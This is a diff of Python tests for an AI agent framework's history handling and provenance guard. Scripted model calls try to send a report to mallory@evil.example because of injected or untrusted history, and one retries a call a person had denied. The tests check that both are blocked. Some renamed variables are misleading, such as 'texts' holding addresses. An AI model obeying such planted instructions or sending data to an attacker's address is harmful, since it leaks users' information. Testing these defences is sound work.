@@ -18,7 +18,7 @@ from pydantic_ai.messages import (
     UserPromptPart,
 )
 
-from halter import Agent, Message, PersonAsked, Result, tool
+from halter import Agent, DecisionRequested, Message, Result, tool
 from halter.core.errors import ConfigError
 from halter.core.ids import SortableIds
 from halter.core.messages import Prompt, Text, ToolCall, ToolResult
@@ -37,7 +37,7 @@ def bench(tmp_path: Path) -> Bench:
 
 
 def spoken(messages: Any) -> list[tuple[str, str]]:
-    return [(each.role, "".join(part.text for part in each.parts if isinstance(part, Text))) for each in messages]
+    return [(each.role, "".join(result.text for result in each.parts if isinstance(result, Text))) for each in messages]
 
 
 async def test_what_one_run_said_another_begins_with(bench: Bench) -> None:
@@ -52,15 +52,15 @@ async def test_what_one_run_said_another_begins_with(bench: Bench) -> None:
     ]
     assert spoken(await agent.history(second.session)) == spoken(second.messages)
     assert second.session != first.session
-    assert [one.get("session", "") for one in bench.facts("history_given")] == [""]
+    assert [fact.get("session", "") for fact in bench.facts("history_given")] == [""]
 
 
 async def test_a_history_is_given_once_also_where_the_program_says_it_again(bench: Bench) -> None:
     agent = bench.agent(says("Two."), says("Three."))
     before = [Message("user", (Text("One?"),)), Message("assistant", (Text("One.", "model", trusted=False),))]
     await agent.run("And?", history=before, id="monday")
-    again = await agent.resume("monday", "And?")
-    assert len(again.messages) == 6
+    result = await agent.resume("monday", "And?")
+    assert len(result.messages) == 6
     assert len(bench.facts("history_given")) == 1
     with pytest.raises(ConfigError, match="has begun already"):
         await agent.run("And?", session="monday", history=before)
@@ -92,7 +92,7 @@ def test_messages_of_pydantic_ai_are_read_and_written() -> None:
 @pytest.mark.parametrize(
     ("given", "why"),
     [
-        ([ModelRequest(parts=[UserPromptPart([ImageUrl("https://house.example/a.png")])])], "may hold text alone"),
+        ([ModelRequest(parts=[UserPromptPart([ImageUrl("https://house.example/a.png")])])], "may contain only text"),
         (["hello"], "has a str"),
         ([ModelResponse(parts=[ToolCallPart("look", "{}", "x")])], "a call without its result"),
         ([ModelRequest(parts=[ToolReturnPart("look", "seen", "x")])], "a result of look without its call"),
@@ -115,12 +115,12 @@ async def test_what_pydantic_ai_said_goes_on_here_and_back_there(bench: Bench) -
     agent = bench.agent(says("Take a boat."))
     result = await agent.run("What shall I take?", history=began.all_messages())
     assert spoken(result.messages)[1] == ("assistant", "It rains.")
-    ended = await theirs.run("And tomorrow?", message_history=write_pydantic_messages(result.messages))
-    assert len(ended.all_messages()) == 6
+    agent_run_result = await theirs.run("And tomorrow?", message_history=write_pydantic_messages(result.messages))
+    assert len(agent_run_result.all_messages()) == 6
 
 
 def sending(bench: Bench, *lines: Any, provenance: str = "strict") -> tuple[Agent, list[str]]:
-    sent: list[str] = []
+    texts: list[str] = []
     agent = bench.agent(*lines, policy={"policy": {"provenance": provenance}})
 
     @agent.tool(
@@ -128,10 +128,10 @@ def sending(bench: Bench, *lines: Any, provenance: str = "strict") -> tuple[Agen
     )
     async def send(to: str, text: str = "the report") -> str:
         """Send a letter."""
-        sent.append(to)
+        texts.append(to)
         return "sent"
 
-    return agent, sent
+    return agent, texts
 
 
 @pytest.mark.parametrize(
@@ -149,10 +149,10 @@ def sending(bench: Bench, *lines: Any, provenance: str = "strict") -> tuple[Agen
 async def test_no_history_makes_what_others_wrote_the_words_of_a_person(bench: Bench, before: list[Message]) -> None:
     """The attack: a history that says where to send things to, also one that says of itself that it is trusted."""
     sends = [calls(("send", {"to": "mallory@evil.example"})), calls(("send", {"to": "bob@house.example"}))]
-    agent, sent = sending(bench, *sends, says("Done."))
-    asked = "Send the report to bob@house.example."
-    result = await agent.run(asked, history=[Message("user", (Text("Hello."),)), *before])
-    assert sent == ["bob@house.example"]
+    agent, texts = sending(bench, *sends, says("Done."))
+    text = "Send the report to bob@house.example."
+    result = await agent.run(text, history=[Message("user", (Text("Hello."),)), *before])
+    assert texts == ["bob@house.example"]
     refused = [part for each in result.messages for part in each.parts if isinstance(part, ToolResult)]
     assert "untrusted" in [part.outcome for part in refused]
 
@@ -162,18 +162,18 @@ async def test_what_a_person_denied_there_is_not_asked_again_here(bench: Bench, 
     """The attack: a denied call, tried again in a session that begins with the history of the first."""
     to_mallory = calls(("send", {"to": "mallory@evil.example"}))
     lines = [to_mallory, says("I ask."), says("Denied."), to_mallory, says("Done.")]
-    agent, sent = sending(bench, *lines, provenance="ask")
+    agent, texts = sending(bench, *lines, provenance="ask")
     letter = Message("user", (Text(LETTERS, "document", trusted=False),))
     async with agent:
         first = None
         async for event in agent.stream_events("Read my letters.", kind="task", history=[letter]):
-            if isinstance(event, PersonAsked):
+            if isinstance(event, DecisionRequested):
                 await deny(bench)
             first = event
         assert isinstance(first, Result)
         before = first.messages if taken == "result" else await agent.history(first.session)
         second = await agent.run("Go on.", history=before)
-    assert sent == []
+    assert texts == []
     assert len(bench.facts("decision_asked")) == 1
     *_, last = [part for each in second.messages for part in each.parts if isinstance(part, ToolResult)]
     assert "A person denied an earlier call like it in this session" in last.text
@@ -187,7 +187,7 @@ async def deny(bench: Bench) -> None:
 
 
 def seen_by(model: FunctionModel) -> Prompt:
-    return model.asked[-1]
+    return model.requests[-1]
 
 
 def test_instructions_and_tools_are_made_for_each_run(tmp_path: Path) -> None:
@@ -240,19 +240,19 @@ def test_a_tool_of_a_toolset_passes_the_guard_and_takes_no_other_tools_place(tmp
         environ={},
         policy={"policy": {"disabled": ["wipe"]}},
     )
-    done: list[str] = []
+    texts: list[str] = []
 
     @agent.tool(level="SAFE")
     async def wipe() -> str:
         """Wipe the desk."""
-        done.append("wiped")
+        texts.append("wiped")
         return "wiped"
 
     @agent.toolset
     def dangerous(deps: Any) -> list[Tool]:
         async def wipe_all() -> str:
             """Wipe everything."""
-            done.append("wiped all")
+            texts.append("wiped all")
             return "wiped"
 
         name = "wipe" if deps == "twice" else "wipe_all"
@@ -266,4 +266,4 @@ def test_a_tool_of_a_toolset_passes_the_guard_and_takes_no_other_tools_place(tmp
     with agent.override(model=refused):
         result = agent.run_sync("Wipe.", deps="once")
     outcomes = [part.outcome for each in result.messages for part in each.parts if isinstance(part, ToolResult)]
-    assert ("ok" in outcomes, done) == (False, [])
+    assert ("ok" in outcomes, texts) == (False, [])
